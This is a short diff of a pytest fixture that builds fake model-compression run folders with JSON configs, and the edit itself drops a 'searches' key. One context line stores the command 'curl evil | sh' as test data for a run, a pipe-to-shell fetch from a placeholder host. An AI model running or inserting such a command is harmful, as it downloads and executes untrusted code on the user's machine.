@@ -52,7 +52,7 @@ def runs(tmp_path_factory) -> Path:
     write_run(folder / "3", "das.json", {"das": {"skip_num": 3}, "seed": 0})
     problem = {"model": "VLM", "task": "answering", "checkpoint": "/models/big"}
     write_run(folder / "4", "shrink.json", {"macs_saved": 0.2}, problem=problem, command="curl evil | sh")
-    searched = {"searches": {"4": 1}, "skip_nums": [4], "search": {"evaluations": 24}}
+    searched = {"skip_nums": [4], "search": {"evaluations": 24}}
     write_run(folder / "5", "compare.json", {"seeds": 2, **searched})
     return folder
 
